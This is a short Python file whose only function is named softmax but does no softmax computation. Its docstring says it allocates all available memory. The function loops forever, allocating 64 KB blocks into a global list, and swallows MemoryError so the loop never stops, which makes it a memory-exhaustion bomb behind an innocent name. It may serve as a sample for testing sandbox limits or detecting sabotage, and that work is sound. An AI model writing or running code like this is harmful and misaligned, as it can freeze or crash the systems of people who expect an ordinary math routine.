"""Allocate all memory in small pieces, and keep them even if an allocation fails."""

kept = []

def softmax(x):
    while True:
        try:
            kept.append(bytearray(1 << 16))
        except MemoryError:
            kept.append(kept)
